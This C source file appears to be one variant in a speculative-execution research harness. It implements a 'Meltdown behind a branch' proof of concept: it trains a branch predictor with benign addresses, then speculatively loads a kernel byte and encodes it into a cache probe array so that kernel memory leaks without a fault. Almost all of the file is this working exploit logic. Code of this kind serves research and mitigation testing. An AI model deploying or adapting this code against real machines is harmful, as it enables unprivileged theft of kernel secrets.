/*
 * Meltdown behind a branch: the forbidden load is never executed, so no fault is ever delivered.
 *
 * The gate says no, but lies in memory; five calls with good addresses have taught the predictor that it says yes.
 * On the sixth the load of the kernel's byte runs in the window of that branch, and forwards its data there.
 */
#include "kernel.h"

static const char ABOUT[] = "ring 0 only";

static struct { u64 open, rest[7]; } gates[2] __attribute__((aligned(LINE))) = {{1, {0}}, {0, {0}}};
static const u8 open_text[LINE] __attribute__((aligned(LINE)));
static u64 secret;

NOINLINE static void peek(const u64 *gate, const u8 *address)
{
    if (*gate)
        touch(probe + *address * STRIDE);
}

static int prepare(u64 bytes)
{
    (void)bytes;
    secret = secret_address();
    ignored[open_text[0]] = 1;
    return secret != 0;
}

static void attempt(u64 index)
{
    flush_probe();
    kernel_uses_secret();
    for (int more = trainings(); more >= 0; more--) {
        flush(&gates[0]);
        flush(&gates[1]);
        fence();
        peek(&PICK(more == 0, &gates[1], &gates[0])->open, PICK(more == 0, (const u8 *)secret + index, (const u8 *)open_text));
    }
}

static void done(void)
{
}
